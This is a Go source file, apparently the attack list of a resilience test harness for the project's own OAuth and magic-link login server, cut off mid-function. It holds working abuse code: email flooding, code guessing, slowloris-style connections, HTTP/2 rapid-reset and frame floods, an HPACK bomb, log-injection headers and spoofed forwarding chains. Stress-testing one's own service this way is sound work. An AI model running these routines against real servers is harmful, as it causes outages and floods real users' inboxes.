package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net/url"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const everyone = "known new newcomer app appnew session"

func attacks() []Attack {
	return []Attack{
		{Name: "none", Rule: "-", Plan: everyone + " slowperson", Run: func(ctx context.Context, w *World) { <-ctx.Done() }},

		// OA-1
		{Name: "mails-1", Rule: "OA-1", Plan: "known new app appnew session", Each: 5, Users: 5, Run: mails(1, false), After: victimMails},
		{Name: "mails-10", Rule: "OA-1", Plan: "known new app appnew session", Each: 5, Users: 5, Run: mails(10, false), After: victimMails},
		{Name: "mails-1000", Rule: "OA-1", Plan: "known app session | new appnew", Each: 6, Users: 6, Run: mails(1000, false), After: victimMails},
		{Name: "mails-app-10", Rule: "OA-1", Plan: "known new app appnew session", Each: 5, Users: 5, Run: mails(10, true), After: victimMails},
		{Name: "mails-app-1000", Rule: "OA-1", Plan: "known app session | new appnew", Each: 6, Users: 6, Run: mails(1000, true), After: victimMails},
		{Name: "mails-mimic-10", Rule: "OA-1", Plan: "known new app appnew session", Each: 5, Users: 5, Run: mimic(10), After: victimMails},
		{Name: "mails-one-victim", Rule: "OA-1", Plan: "known app session | new", Each: 3, Users: 1, Run: mails(1000, false), After: victimMails},
		{Name: "mails-one-v48", Rule: "OA-1", Plan: "known new app session", Each: 3, Users: 3, Run: func(ctx context.Context, w *World) {
			w.N = 1 // one /48 with all its /64
			w.swarm(ctx, 64, 0, func(i int) {
				w.begin(ctx, Net{IP: fmt.Sprintf("2a0c:1:1:%x::9", i%65536)}, w.victim(i).Email, nil)
			})
		}, After: victimMails},
		{Name: "race", Rule: "OA-1", Plan: "known new app session", Users: 6, Run: race, After: victimMails},
		{Name: "spellings", Rule: "OA-10", Plan: everyone, Run: spellings, After: func(w *World) {
			n := w.sink.count(func(a string) bool {
				return strings.HasSuffix(a, "gmail.com") || strings.HasSuffix(a, "googlemail.com")
			})
			w.notef("%d emails to one Gmail mailbox", n)
		}},

		// OA-2
		{Name: "codes-1", Rule: "OA-2", Plan: "known new app appnew session", Each: 5, Users: 5, Run: codes(1), After: victimMails},
		{Name: "codes-10", Rule: "OA-2", Plan: "known new app appnew session", Each: 5, Users: 5, Run: codes(10), After: victimMails},
		{Name: "codes-1000", Rule: "OA-2", Plan: "known app session | new appnew", Each: 6, Users: 6, Run: codes(1000), After: victimMails},
		{Name: "codes-guessed-flow", Rule: "OA-2", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				b := w.attacker(ctx, w.net(i))
				w.count(w.apiPost(b, "/api/v1/auth/magic-link/consume", map[string]any{"flow_id": uuid(), "code_verifier": token(33), "code": wrongCode()}))
			})
		}},
		{Name: "known-cookies", Rule: "OA-2", Plan: "known app session new appnew", Users: 5, Each: 5, Run: madeUpCookies, After: victimMails},

		// OA-3
		{Name: "neighbour", Rule: "OA-3", Plan: "known app session | neighbour new", Users: 6, Run: neighbour},

		{Name: "neighbours-24", Rule: "OA-3", Plan: "known app session | new", Users: 6, Run: func(ctx context.Context, w *World) { // the whole prefix around each victim
			w.N = 254
			w.swarm(ctx, 64, 0, func(i int) {
				u := w.users[i%len(w.users)]
				for _, n := range []Net{u.D.net, u.S.net, u.AppNet} {
					if strings.Contains(n.IP, ":") {
						n.IP = strings.Replace(n.IP, ":1::20", fmt.Sprintf(":1:%x::9", i%65536), 1)
					} else {
						n.IP = n.IP[:strings.LastIndex(n.IP, ".")+1] + fmt.Sprint(i%255)
					}
					switch i % 3 {
					case 0:
						w.appBegin(ctx, n, fmt.Sprintf("n%d@n%d.example", i, i), "")
					case 1:
						w.begin(ctx, n, u.Email, nil)
					default:
						w.atkGet(ctx, n, w.fatURL(7000, ""), navigate)
					}
				}
			})
		}},

		// OA-4
		{Name: "tickets-100", Rule: "OA-4", Plan: everyone + " slowperson", Run: tickets(100, 7000)},
		{Name: "tickets-13", Rule: "OA-4", Plan: everyone + " slowperson", Run: tickets(13, 7000)},
		{Name: "tickets-small", Rule: "OA-4", Plan: everyone + " slowperson", Run: tickets(100, 60)},
		{Name: "tickets-v48", Rule: "OA-4", Plan: everyone + " slowperson", Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				w.atkGet(ctx, Net{IP: fmt.Sprintf("2a0c:%x:1:%x::9", i%100, (i/100)%65536)}, w.fatURL(7000, ""), navigate)
			})
		}},
		{Name: "tickets-mixed", Rule: "OA-4", Conf: Conf{Providers: true}, Plan: everyone + " slowperson provider", Run: ticketsMixed},
		{Name: "counters", Rule: "OA-4", Plan: everyone + " slowperson", Run: func(ctx context.Context, w *World) { // as many counters as can be
			w.N = 65536
			w.swarm(ctx, 64, 0, func(i int) {
				n := Net{IP: fmt.Sprintf("2a0d:%x:%x::9", i%100, i/100)}
				switch i % 3 {
				case 0:
					w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {"x"}, "client_id": {"conf"}, "client_secret": {"x"}}, nil)
				case 1:
					w.appBegin(ctx, n, fmt.Sprintf("c%d@c%d.example", i, i), "")
				default:
					w.atkGet(ctx, n, w.fatURL(100, ""), navigate)
				}
			})
		}},

		// OA-5: connections, of their own addresses
		{Name: "conns-8", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) { w.N = 8; w.hold(ctx, 8, 512, false, "", "") }},
		{Name: "conns-100", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) { w.N = 100; w.hold(ctx, 100, 41, false, "", "") }},
		{Name: "conns-tls-100", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) { w.N = 100; w.hold(ctx, 100, 41, false, "", "") }},
		{Name: "conns-clienthello", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "\x00")
		}},
		{Name: "handshakes", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 256, 0, func(i int) {
				c, err := w.rawDial(ctx, directAttacker(i%100).IP, true, "h2")
				if err != nil {
					w.stat(cutErr(err))
					return
				}
				w.stat("shaken")
				c.Close()
			})
		}},
		{Name: "slow-headers", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, "GET /login HTTP/1.1\r\n"+w.hostLine()+"X-A: ", "a")
		}},
		{Name: "slow-bodies", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, "POST /oauth2/token HTTP/1.1\r\n"+w.hostLine()+"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\na="+strings.Repeat("b", 30000), "c")
		}},
		{Name: "slow-chunks", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, "POST /login/email HTTP/1.1\r\n"+w.hostLine()+"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\na\r\n")
		}},
		{Name: "expect-continue", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, "POST /oauth2/token HTTP/1.1\r\n"+w.hostLine()+"Content-Type: application/x-www-form-urlencoded\r\nExpect: 100-continue\r\nContent-Length: 60000\r\n\r\n", "")
		}},
		{Name: "unread-responses", Rule: "OA-5", Direct: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.hold(ctx, 100, 41, false, strings.Repeat("GET /docs HTTP/1.1\r\n"+w.hostLine()+"\r\nGET /openapi.json HTTP/1.1\r\n"+w.hostLine()+"\r\n", 20), "unread")
		}},
		{Name: "unread-h2", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			each(100, func(k int) {
				w.h2stall(ctx, directAttacker(k).IP, 10, 32, 0, true, func(i int) ([]hf, []byte) { return w.h2fields("GET", "/openapi.json"), nil })
			})
		}},
		{Name: "h2-bodies", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			each(100, func(k int) {
				w.h2stall(ctx, directAttacker(k).IP, 10, 32, 65535, false, func(i int) ([]hf, []byte) {
					return w.h2fields("POST", "/login/email", hf{Name: "content-type", Value: "application/x-www-form-urlencoded"}, hf{Name: "content-length", Value: "60000"}), bytes.Repeat([]byte("a"), 1500)
				})
			})
		}},
		{Name: "h2-email", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("email")},
		{Name: "h2-authorize", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("authorize")},
		{Name: "h2-token", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("token")},
		{Name: "h2-code", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("code")},
		{Name: "h2-apicode", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("apicode")},
		{Name: "h2-apirequest", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("apirequest")},
		{Name: "h2-secret", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("secret")},
		{Name: "h2-bearer", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("bearer")},
		{Name: "h2-link", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2one("link")},
		{Name: "h2-all", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: h2all()},
		{Name: "h2-code-8nets", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 8
			req := w.h2four("apicode")
			each(8, func(k int) { w.h2load(ctx, directAttacker(k).IP, 16, 32, req) })
		}},
		{Name: "h2-token-100nets", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			req := w.h2four("token")
			each(100, func(k int) { w.h2load(ctx, directAttacker(k).IP, 2, 32, req) })
		}},
		{Name: "h2-authorize-100nets", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			req := w.h2four("authorize")
			each(100, func(k int) { w.h2load(ctx, directAttacker(k).IP, 2, 32, req) })
		}},
		{Name: "h2-reset", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: rapidReset},
		{Name: "h2-frames", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: frames},

		{Name: "h2-hpack", Rule: "OA-5", Direct: true, TLS: true, Plan: everyone, Run: hpackBomb},

		// OA-6
		{Name: "streams-16", Rule: "OA-6", Conf: Conf{WithSecondAPI: true}, Plan: "known new appv2 session", Users: 6, Run: streams(16, 16)},
		{Name: "streams-100", Rule: "OA-6", Conf: Conf{WithSecondAPI: true}, Plan: "known new appv2 session", Users: 6, Run: streams(100, 5)},
		{Name: "streams-churn", Rule: "OA-6", Conf: Conf{WithSecondAPI: true}, Plan: "known new appv2 session", Users: 6, Run: streamsChurn},

		// OA-7
		{Name: "domain-hangs", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("hangrcpt", false)},
		{Name: "domain-hangs-data", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("hangdata", false)},
		{Name: "domain-drips", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("drip", false)},
		{Name: "domain-dripbyte", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("dripbyte", true)},
		{Name: "domains-hang", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("hangrcpt", true)},
		{Name: "domains-hang-data", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("hangdata", true)},
		{Name: "domains-slow", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("slow3", true)},
		{Name: "domains-slowtemp", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("slowtemp", true)},
		{Name: "domains-drop", Rule: "OA-7", Plan: everyone, Secs: 60, Run: hangs("drop", true)},
		{Name: "own-domain-hangs", Rule: "OA-7", Plan: everyone, Secs: 60, Run: func(ctx context.Context, w *World) { // made-up people at the innocents' provider, for whom it hangs
			w.N = 100
			w.sink.setRule(func(a string) string {
				if strings.HasPrefix(a, "x-") {
					return "hangrcpt"
				}
				return ""
			})
			w.swarm(ctx, 32, 2000, func(i int) { w.begin(ctx, w.net(i), fmt.Sprintf("x-%d@people.example", i), nil) })
			<-ctx.Done()
		}},
		{Name: "own-domain-flips", Rule: "OA-7", Plan: everyone, Secs: 60, Run: func(ctx context.Context, w *World) { // half are taken, half hang
			w.N = 100
			w.sink.setRule(func(a string) string {
				if strings.HasPrefix(a, "x-") && len(a)%2 == 0 {
					return "hangdata"
				}
				return ""
			})
			w.swarm(ctx, 32, 2000, func(i int) {
				w.begin(ctx, w.net(i), fmt.Sprintf("x-%s@people.example", strings.Repeat("y", i%2)+fmt.Sprint(10000+i)), nil)
			})
			<-ctx.Done()
		}},

		{Name: "known-people-hang", Rule: "OA-7", Plan: everyone, Secs: 75, Run: knownHang},

		// OA-8
		{Name: "rows-callbacks", Rule: "OA-8", Conf: Conf{Providers: true}, Plan: everyone + " provider", Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				id := []string{"good", "slow", "dead", "none"}[i%4]
				w.atkGet(ctx, w.net(i), "/upstream/"+id+"/callback?code="+token(8)+"&state="+token(32)+"&error=x"+token(4), navigate)
			})
		}},
		{Name: "rows-own-session", Rule: "OA-8", Plan: everyone, Run: ownSession},
		{Name: "rows-flows", Rule: "OA-8", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) { w.begin(ctx, w.net(i), fmt.Sprintf("f%d@f%d.example", i, i%977), nil) })
		}},
		{Name: "own-consent", Rule: "OA-4", Plan: everyone + " slowperson", Run: ownConsent},
		{Name: "rows-own-refresh", Rule: "OA-8", Plan: everyone, Run: ownRefresh},

		// OA-9, and addresses that do not exist
		{Name: "made-up-own-domain", Rule: "OA-9", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) { w.begin(ctx, w.net(i), fmt.Sprintf("m%d@people.example", i), nil) })
		}},
		{Name: "made-up-domains", Rule: "OA-9", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) { w.appBegin(ctx, w.net(i), fmt.Sprintf("m%d@m%d.example", i, i), "") })
		}},
		{Name: "made-up-1000", Rule: "OA-9", Plan: "known app session | new newcomer appnew", Run: func(ctx context.Context, w *World) {
			w.N = 1000
			w.swarm(ctx, 64, 0, func(i int) { w.appBegin(ctx, w.net(i), fmt.Sprintf("m%d@m%d.example", i, i), "") })
		}},

		// others' clients
		{Name: "client-secrets", Rule: "own", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				w.atkForm(ctx, w.net(i), []string{"/oauth2/token", "/oauth2/introspect", "/oauth2/revoke"}[i%3], url.Values{"grant_type": {"authorization_code"}, "code": {token(32)}, "token": {token(32)}, "redirect_uri": {webRedir}},
					map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte([]string{"conf:", "rs:"}[i%2]+token(20)))})
			})
		}},
		{Name: "client-secrets-neighbour", Rule: "OA-3", Plan: everyone, Run: func(ctx context.Context, w *World) { // from the network of the client's own server
			w.N = 1
			w.swarm(ctx, 32, 0, func(i int) {
				w.atkForm(ctx, Net{IP: "80.1.2.3"}, []string{"/oauth2/token", "/oauth2/introspect", "/oauth2/revoke"}[i%3], url.Values{"grant_type": {"authorization_code"}, "code": {token(32)}, "token": {token(32)}, "redirect_uri": {webRedir}},
					map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte([]string{"conf:", "rs:"}[i%2]+token(20)))})
			})
		}},
		{Name: "assertions", Rule: "OA-3", Plan: everyone, Run: assertions("")},
		{Name: "assertions-neighbour", Rule: "OA-3", Plan: everyone, Run: assertions("80.1.2.3")},
		{Name: "assertions-jwks-hangs", Rule: "OA-3", Conf: Conf{JwksURI: true}, Plan: everyone, Run: func(ctx context.Context, w *World) {
			// The client has been at work before: what was never read cannot be known while its own server hangs.
			w.atkForm(ctx, w.net(0), "/oauth2/token", url.Values{"grant_type": {"client_credentials"}, "client_id": {"jwt"},
				"client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}, "client_assertion": {w.assertion("k1", true)}}, nil)
			w.up.slowJ.Store(true)
			defer w.up.slowJ.Store(false)
			assertions("")(ctx, w)
		}},
		{Name: "garbage-tokens", Rule: "own", Plan: everyone, Run: garbage},

		// providers
		{Name: "buttons", Rule: "OC-11", Conf: Conf{Providers: true}, Plan: everyone + " provider", Run: buttons},
		{Name: "provider-token-hangs", Rule: "OC-11", Conf: Conf{Providers: true}, Plan: everyone + " provider", Run: slowProvider},

		// logs
		{Name: "log-13-bytes", Rule: "log", Direct: true, TLS: true, Plan: everyone, Secs: 30, Run: thirteen(false)},
		{Name: "log-13-bytes-plain", Rule: "log", Direct: true, Plan: everyone, Secs: 30, Run: thirteen(true)},
		{Name: "log-http1", Rule: "log", Direct: true, Plan: everyone, Secs: 30, Run: tinyHTTP1},
		{Name: "log-xff", Rule: "log", Plan: everyone, Secs: 30, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				w.atkGet(ctx, w.net(i), "/nothing/"+strings.Repeat("%0a{\"level\":\"ERROR\"}", 10)+token(3), map[string]string{"User-Agent": strings.Repeat("a\x22", 500), "Accept-Language": strings.Repeat("zz,", 500)})
			})
		}},

		// whatever else
		{Name: "links", Rule: "own", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) { w.atkGet(ctx, w.net(i), "/login/link/"+token(32), navigate) })
		}},
		{Name: "jwt-bombs", Rule: "own", Plan: everyone, Run: jwtBombs},
		{Name: "xff-liars", Rule: "own", Plan: everyone, Run: func(ctx context.Context, w *World) { // a caller writes what the proxy extends
			w.N = 1
			w.swarm(ctx, 64, 0, func(i int) {
				b := w.attacker(ctx, Net{IP: strings.Repeat(fmt.Sprintf("9.%d.%d.%d, ", rand.IntN(255), rand.IntN(255), i%255), 1+i%300) + "20.1.17.9"})
				b.w.count(w.apiPost(b, "/api/v1/auth/magic-link/request", map[string]any{"client_id": "app", "email": w.victim(i).Email, "code_challenge": challenge(token(33)), "code_challenge_method": "S256"}))
			})
		}, After: victimMails},
		{Name: "methods", Rule: "own", Plan: everyone, Run: func(ctx context.Context, w *World) {
			w.N = 100
			ms := []string{"OPTIONS", "TRACE", "PUT", "DELETE", "PROPFIND", "HEAD"}
			ps := []string{"/login", "/oauth2/token", "/oauth2/userinfo", "/api/v1/auth/magic-link/request", "/docs", "/.well-known/jwks.json", "/account"}
			w.swarm(ctx, 64, 0, func(i int) {
				b := w.attacker(ctx, w.net(i))
				w.count(b.once(ms[i%len(ms)], w.baseURL.ResolveReference(&url.URL{Path: ps[i%len(ps)]}), "", "", map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}))
			})
		}},
		{Name: "logout-forms", Rule: "own", Plan: everyone + " slowperson", Run: func(ctx context.Context, w *World) { // what a sign-out may park
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				w.atkForm(ctx, w.net(i), "/oauth2/logout", url.Values{"state": {strings.Repeat("s", 4000)}, "id_token_hint": {"a." + strings.Repeat("b", 3000) + ".c"}, "client_id": {"web"}, "post_logout_redirect_uri": {"https://x.example/" + token(5)}}, nil)
			})
		}},
		{Name: "posted-authorize", Rule: "OA-4", Plan: everyone + " slowperson", Run: func(ctx context.Context, w *World) {
			w.N = 100
			w.swarm(ctx, 64, 0, func(i int) {
				q := w.fatURL(7000, "")
				v, _ := url.ParseQuery(q[strings.Index(q, "?")+1:])
				w.atkForm(ctx, w.net(i), "/oauth2/authorize", v, map[string]string{"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"})
			})
		}},
	}
}

func each(n int, f func(int)) {
	var wg sync.WaitGroup
	for k := range n {
		wg.Add(1)
		go func() { defer wg.Done(); f(k) }()
	}
	wg.Wait()
}

func uuid() string {
	b := make([]byte, 16)
	for i := range b {
		b[i] = byte(rand.IntN(256))
	}
	b[6], b[8] = b[6]&15|64, b[8]&63|128
	return fmt.Sprintf("%x-%x-%x-%x-%x", b[:4], b[4:6], b[6:8], b[8:10], b[10:])
}

func victimMails(w *World) {
	most := 0
	for _, u := range w.users {
		if n := len(w.sink.since(u.Email, time.Time{})); n > most {
			most = n
		}
	}
	w.notef("most emails to one victim: %d (of these 3 of their own before)", most)
}

// race: one network asks for one address by many requests at the same time.
func race(ctx context.Context, w *World) {
	w.N = 1
	victim := "raced@people.example"
	each(200, func(i int) { w.begin(ctx, attackerNet(1), victim, nil) })
	each(200, func(i int) { w.appBegin(ctx, attackerNet(1), victim, "") })
	time.Sleep(2 * time.Second)
	w.notef("400 requests at once of one network for one address: %d emails", len(w.sink.since(victim, time.Time{})))
	w.swarm(ctx, 128, 0, func(i int) { w.appBegin(ctx, attackerNet(1+i%4), w.victim(i).Email, "") })
}

func spellings(ctx context.Context, w *World) {
	w.N = 100
	name := "victimvictim"
	w.swarm(ctx, 64, 0, func(i int) {
		var s strings.Builder
		for k, c := range name {
			if k > 0 && (i>>k)&1 == 1 {
				s.WriteByte('.')
			}
			s.WriteRune(c)
		}
		d := "gmail.com"
		if i%5 == 0 {
			d = "googlemail.com"
		}
		if i%3 == 0 {
			s.WriteString("+" + token(3))
		}
		a := s.String()
		if i%7 == 0 {
			a = strings.ToUpper(a)
		}
		w.begin(ctx, w.net(i), a+"@"+d, nil)
	})
}

// madeUpCookies: device cookies and secrets that are invented, or of attackers' own accounts, used for the victims.
func madeUpCookies(ctx context.Context, w *World) {
	w.N = 1000
	bs, secrets := w.signUpAttackers(ctx, 4)
	names := map[string]int{}
	for _, u := range w.users[:1] {
		for k, v := range w.cookiesOf(u.D) {
			names[k] = len(v)
		}
	}
	w.notef("cookies of a known device: %v", names)
	w.swarm(ctx, 64, 0, func(i int) {
		v := w.victim(i).Email
		switch i % 4 {
		case 0:
			var c []string
			for k, n := range names {
				c = append(c, k+"="+token(n)[:n])
			}
			b, r := w.begin(ctx, w.net(i), v, map[string]string{"Cookie": strings.Join(c, "; ")})
			w.guess(b, r)
		case 1:
			if len(bs) > 0 {
				var c []string
				for k, x := range w.cookiesOf(bs[i%len(bs)]) {
					c = append(c, k+"="+x)
				}
				b, r := w.begin(ctx, w.net(i), v, map[string]string{"Cookie": strings.Join(c, "; ")})
				w.guess(b, r)
			}
		default:
			s := token(32)
			if i%4 == 3 && len(secrets) > 0 {
				s = secrets[i%len(secrets)]
			}
			flow, ver := w.appBegin(ctx, w.net(i), v, s)
			b := w.attacker(ctx, w.net(i))
			for k := 0; flow != "" && k < 5; k++ {
				w.count(w.apiPost(b, "/api/v1/auth/magic-link/consume", map[string]any{"flow_id": flow, "code_verifier": ver, "code": wrongCode(), "device_secret": s}))
			}
		}
	})
}

func (w *World) guess(b *Browser, r *Resp) {
	for k := 0; r != nil && k < 5; k++ {
		f, n, ok := codeForm(r.Body)
		if !ok {
			return
		}
		r = w.count(b.submit(r, f, map[string]string{n: wrongCode()}))
	}
}

// neighbour: everything that one network can spend, from the very network of each victim.
func neighbour(ctx context.Context, w *World) {
	w.N = len(w.users)
	nets := []Net{}
	for _, u := range w.users {
		nets = append(nets, u.D.net, u.S.net, u.AppNet)
	}
	w.swarm(ctx, 64, 0, func(i int) {
		n := nets[i%len(nets)]
		switch (i / len(nets)) % 8 {
		case 0:
			w.begin(ctx, n, fmt.Sprintf("n%d@n%d.example", i, i), nil)
		case 1:
			w.begin(ctx, n, w.users[(i%len(nets))/3].Email, nil)
		case 2:
			b, r := w.begin(ctx, n, w.users[(i%len(nets))/3].Email, nil)
			w.guess(b, r)
		case 3:
			w.appBegin(ctx, n, w.users[(i%len(nets))/3].Email, token(32))
		case 4, 5:
			w.atkGet(ctx, n, w.fatURL(7000, ""), navigate)
		case 6:
			w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {token(32)}, "client_id": {"conf"}, "client_secret": {token(32)}}, nil)
		default:
			w.atkGet(ctx, n, "/oauth2/userinfo", map[string]string{"Authorization": "Bearer " + token(100)})
		}
	})
}

func tickets(n, size int) func(context.Context, *World) {
	return func(ctx context.Context, w *World) {
		w.N = n
		w.swarm(ctx, 64, 0, func(i int) { w.atkGet(ctx, w.net(i), w.fatURL(size, ""), navigate) })
	}
}

func ticketsMixed(ctx context.Context, w *World) {
	w.N = 100
	w.swarm(ctx, 64, 0, func(i int) {
		n := w.net(i)
		switch i % 5 {
		case 0:
			w.atkGet(ctx, n, w.fatURL(7000, ""), navigate)
		case 1:
			b := w.attacker(ctx, n)
			b.jar = nil
			w.count(w.apiPost(b, "/api/v1/auth/oidc/good/start", map[string]any{"client_id": "app", "redirect_uri": "https://app.people.example/callback", "code_challenge": challenge(token(33)), "code_challenge_method": "S256", "state": strings.Repeat("s", 512)}))
		case 2:
			b := w.attacker(ctx, n)
			if page := w.count(b.get(w.base + w.fatURL(6000, ""))); page != nil {
				if r, err := w.press(b, page, "good"); err == nil {
					w.stat("pressed")
					_ = r
				}
			}
		case 3:
			w.appBegin(ctx, n, fmt.Sprintf("t%d@t%d.example", i, i), "")
		default:
			b := w.attacker(ctx, n)
			if page := w.count(b.get(w.base + w.fatURL(6000, ""))); page != nil {
				if f, nm, ok := emailForm(page.Body); ok {
					w.count(b.submit(page, f, map[string]string{nm: fmt.Sprintf("t%d@t%d.example", i, i)}))
				}
			}
		}
	})
}

func rapidReset(ctx context.Context, w *World) {
	w.N = 100
	each(100, func(k int) {
		for ctx.Err() == nil {
			h, err := w.h2(ctx, directAttacker(k).IP, 65535)
			if err != nil {
				w.stat("no connection: " + cutErr(err))
				sleep(ctx, 200*time.Millisecond)
				continue
			}
			stop := context.AfterFunc(ctx, func() { h.c.Close() })
			go h.read(func(uint32, string) {})
			for ctx.Err() == nil {
				id, err := h.open(w.h2fields("POST", "/api/v1/auth/magic-link/request", hf{Name: "content-type", Value: "application/json"}), []byte(`{"client_id":"app","email":"r@r.example","code_challenge":"`+challenge("x")+`","code_challenge_method":"S256"}`), true)
				if err != nil {
					break
				}
				w.stat("reset")
				h.mu.Lock()
				err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
				h.mu.Unlock()
				if err != nil {
					break
				}
				if id > 2000 {
					break
				}
			}
			stop()
			h.c.Close()
		}
	})
}

// frames: what costs the other side more than us: pings, settings, empty data, continuations without end.
func frames(ctx context.Context, w *World) {
	w.N = 100
	each(100, func(k int) {
		for n := 0; ctx.Err() == nil; n++ {
			h, err := w.h2(ctx, directAttacker(k).IP, 65535)
			if err != nil {
				w.stat("no connection: " + cutErr(err))
				sleep(ctx, 200*time.Millisecond)
				continue
			}
			stop := context.AfterFunc(ctx, func() { h.c.Close() })
			if k%4 != 3 { // one in four never reads
				go io.Copy(io.Discard, h.c)
			}
			var sid uint32
			if (k+n)%4 == 2 {
				sid, _ = h.open(w.h2fields("POST", "/oauth2/token", hf{Name: "content-type", Value: "application/x-www-form-urlencoded"}), []byte("a"), false)
			}
			if (k+n)%4 == 3 {
				h.buf.Reset()
				for _, f := range w.h2fields("GET", "/login") {
					h.enc.WriteField(f)
				}
				h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.buf.Bytes(), EndStream: true})
			}
			for i := 0; ctx.Err() == nil && i < 200000; i++ {
				switch (k + n) % 4 {
				case 0:
					err = h.fr.WritePing(false, [8]byte{byte(i)})
				case 1:
					err = h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i % 4096)})
				case 2:
					err = h.fr.WriteData(sid, false, nil)
				default:
					h.buf.Reset()
					h.enc.WriteField(hf{Name: "x-a", Value: strings.Repeat("a", 1000)})
					err = h.fr.WriteContinuation(1, false, h.buf.Bytes())
				}
				if err != nil {
					w.stat("ended: " + cutErr(err))
					break
				}
				if i%100 == 0 {
					w.stat("100 frames")
				}
			}
			stop()
			h.c.Close()
			sleep(ctx, 10*time.Millisecond)
		}
	})
}

func streams(nets, per int) func(context.Context, *World) {
	return func(ctx context.Context, w *World) {
		w.N = nets
		each(nets*per, func(k int) {
			for ctx.Err() == nil {
				w.stream(ctx, attackerNet(k%nets), k)
				sleep(ctx, time.Second)
			}
		})
	}
}

func (w *World) stream(ctx context.Context, n Net, k int) {
	b := w.attacker(ctx, n)
	b.jar = nil
	ver := token(33)
	r := w.count(w.apiPost(b, "/api/v2/logins", map[string]any{"client_id": "app", "email": fmt.Sprintf("s%d@s%d.example", k, k), "code_challenge": challenge(ver), "code_challenge_method": "S256"}))
	if r == nil || r.Status != 201 {
		return
	}
	i := strings.Index(r.Body, `"flow_id":"`)
	if i < 0 {
		w.stat("no flow")
		return
	}
	id := r.Body[i+11 : i+47]
	for ctx.Err() == nil {
		if !w.events(ctx, n, id, ver) {
			return
		}
